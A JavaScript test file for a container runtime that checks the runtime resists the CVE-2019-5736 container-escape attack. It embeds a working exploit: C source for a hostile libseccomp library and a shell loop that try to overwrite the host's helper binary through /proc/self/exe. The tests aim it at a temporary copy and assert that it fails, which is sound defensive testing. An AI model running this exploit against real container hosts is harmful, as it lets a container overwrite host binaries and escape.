// CVE-2019-5736 with a default config (no CAP_SYS_PTRACE): a hostile image makes the kernel run
// the host's helper inside the container (`#!/proc/self/exe`), and the image's own libseccomp,
// which the helper loads, tries to overwrite the helper's binary once nothing executes it any more.
// The helper must never be a writable host file while it runs a command in a container.
//
// hako runs here with HAKO_HELPER set to a root-owned copy of the helper in the test's temp dir:
// an attack that works overwrites that copy only, never the real helper. The copy is linked
// dynamically (the attack is the image's libseccomp, loaded by the helper): where native/build.sh
// made a static helper, which loads no library, the test builds a dynamic one from the same sources.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { chmodSync, copyFileSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { ok, REPO, runSync, scoped, show, sleeper, waitUntil } from './oci-util.mjs';

const HELPER = join(REPO, 'native', 'hako-helper');
const TRIES = 1000;

/** The shared objects the helper at path loads (ldd): [path in the image, host file]. */
function helperLibraries(path) {
  const r = runSync('ldd', [path]);
  ok(r);
  const libs = [];
  for (const line of r.stdout.split('\n')) {
    const m = /^\s*(\S+)\s+=>\s+(\/\S+)/.exec(line) ?? /^\s*(\/\S+)\s+\(/.exec(line);
    if (!m) continue;
    const [name, path] = m[2] ? [m[1], m[2]] : [m[1], m[1]];
    libs.push({ name, path });
  }
  return libs;
}

// The constructor of the image's libseccomp.so.2: keep an O_PATH fd on /proc/self/exe (the
// host's helper), exec busybox so that the file is no longer being executed, and then try to
// open it for writing through /proc/self/fd/N. The seccomp symbols the helper links are stubs.
const EVIL_C = `
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
void *seccomp_init(unsigned a) { (void)a; return 0; }
int seccomp_arch_add(void *c, unsigned a) { (void)c; (void)a; return -1; }
unsigned seccomp_arch_resolve_name(const char *n) { (void)n; return 0; }
int seccomp_attr_set(void *c, int a, unsigned v) { (void)c; (void)a; (void)v; return -1; }
int seccomp_load(void *c) { (void)c; return -1; }
void seccomp_release(void *c) { (void)c; }
int seccomp_rule_add_array(void *c, unsigned a, int s, unsigned n, const void *v) { (void)c; (void)a; (void)s; (void)n; (void)v; return -1; }
int seccomp_syscall_resolve_name(const char *n) { (void)n; return -1; }
__attribute__((constructor)) static void attack(void) {
    int fd = open("/proc/self/exe", O_PATH);
    if (fd < 0) return;
    char env[32];
    snprintf(env, sizeof env, "EXE_FD=%d", fd);
    char *argv[] = { "sh", "/attack.sh", 0 };
    char *envp[] = { env, "PATH=/bin", 0 };
    execve("/bin/busybox", argv, envp);
}
`;

// In the background (an exec'd process returns at once, so its runtime leaves too); PID 1 waits
// for it. /tmp/DONE says the attempts are over, /tmp/PWNED that one wrote to the helper.
const ATTACK_SH = `(
  i=0
  while [ $i -lt ${TRIES} ]; do
    if echo pwned 2>/dev/null >/proc/self/fd/$EXE_FD; then echo pwned >/tmp/PWNED; break; fi
    /bin/busybox usleep 1000
    i=$((i + 1))
  done
  echo $i >/tmp/DONE
) &
if [ $$ = 1 ]; then wait; /bin/busybox sleep 1000; fi
`;

/** A bundle whose image carries the host's loader and libc, a hostile libseccomp, and a
 * `#!/proc/self/exe` entry point; and a root-owned copy of the helper for hako to run. */
function hostileSetup(s) {
  const copyDir = s.path('helper');
  mkdirSync(copyDir, { mode: 0o755 });
  const copy = join(copyDir, 'hako-helper');
  if (/statically linked|not a dynamic executable/.test(runSync('ldd', [HELPER]).stdout)) {
    const src = s.path('helper-src');
    mkdirSync(src);
    for (const f of readdirSync(join(REPO, 'native'))) if (/\.(c|h|sh)$/.test(f)) copyFileSync(join(REPO, 'native', f), join(src, f));
    ok(runSync('sh', [join(src, 'build.sh')], { env: { ...process.env, HAKO_STATIC: '0' } }));
    copyFileSync(join(src, 'hako-helper'), copy);
  } else {
    copyFileSync(HELPER, copy);
  }
  chmodSync(copy, 0o755);
  const digest = () => createHash('sha256').update(readFileSync(copy)).digest('hex');
  const b = s.bundle();
  for (const { name, path } of helperLibraries(copy)) {
    if (name.startsWith('libseccomp')) continue;
    // at the path ldd found, and in /lib (where the loader looks without a cache)
    for (const dest of [path, `/lib/${name.split('/').pop()}`]) {
      mkdirSync(join(b.rootfs, dirname(dest)), { recursive: true });
      copyFileSync(path, join(b.rootfs, dest));
    }
  }
  const src = s.path('evil.c');
  writeFileSync(src, EVIL_C);
  const seccompDest = helperLibraries(copy).find((l) => l.name.startsWith('libseccomp'));
  assert.ok(seccompDest, 'the helper links libseccomp dynamically');
  for (const dest of [seccompDest.path, '/lib/libseccomp.so.2']) {
    mkdirSync(join(b.rootfs, dirname(dest)), { recursive: true });
    ok(runSync('cc', ['-shared', '-fPIC', '-o', join(b.rootfs, dest), src]));
  }
  writeFileSync(join(b.rootfs, 'attack.sh'), ATTACK_SH);
  writeFileSync(join(b.rootfs, 'entry'), '#!/proc/self/exe\n', { mode: 0o755 });
  return { b, copy, digest, env: s.env({ HAKO_HELPER: copy }) };
}

/** Waits until the attack in rootfs is over; asserts that it never wrote to the helper. */
async function assertHeld(b, digest, before, what) {
  await waitUntil(() => existsSync(join(b.rootfs, 'tmp', 'DONE')) || existsSync(join(b.rootfs, 'tmp', 'PWNED')), { timeoutMs: 20_000, what: `${what}: the attack to end` });
  assert.equal(existsSync(join(b.rootfs, 'tmp', 'PWNED')), false, `${what}: the container wrote to the helper's binary`);
  assert.equal(digest(), before, `${what}: the helper's binary changed`);
  assert.equal(readFileSync(join(b.rootfs, 'tmp', 'DONE'), 'utf8').trim(), String(TRIES), `${what}: the attack did not run to its end`);
}

test('CVE-2019-5736: an entry point of #!/proc/self/exe cannot overwrite the helper (create + start)', scoped(async (s) => {
  const { b, digest, env } = hostileSetup(s);
  const before = digest();
  b.args('/entry');
  const id = s.id();
  ok(s.hakoDetached(['create', '-b', b.dir, id], { env }));
  ok(s.hako(['start', id], { env }));
  await assertHeld(b, digest, before, 'create + start');
  ok(s.hako(['delete', '--force', id], { env }));
}));

test('CVE-2019-5736: an entry point of #!/proc/self/exe cannot overwrite the helper (run -d)', scoped(async (s) => {
  const { b, digest, env } = hostileSetup(s);
  const before = digest();
  b.args('/entry');
  const id = s.id();
  ok(s.hakoDetached(['run', '-d', '-b', b.dir, id], { env }));
  await assertHeld(b, digest, before, 'run -d');
  ok(s.hako(['delete', '--force', id], { env }));
}));

test('CVE-2019-5736: exec of a #!/proc/self/exe program cannot overwrite the helper', scoped(async (s) => {
  const { b, digest, env } = hostileSetup(s);
  const before = digest();
  b.args(...sleeper(s));
  const id = s.id();
  ok(s.hakoDetached(['run', '-d', '-b', b.dir, id], { env }));
  const r = s.hako(['exec', id, '/entry'], { env });
  assert.equal(r.signal, null, show(r));
  await assertHeld(b, digest, before, 'exec');
  ok(s.hako(['delete', '--force', id], { env }));
}));
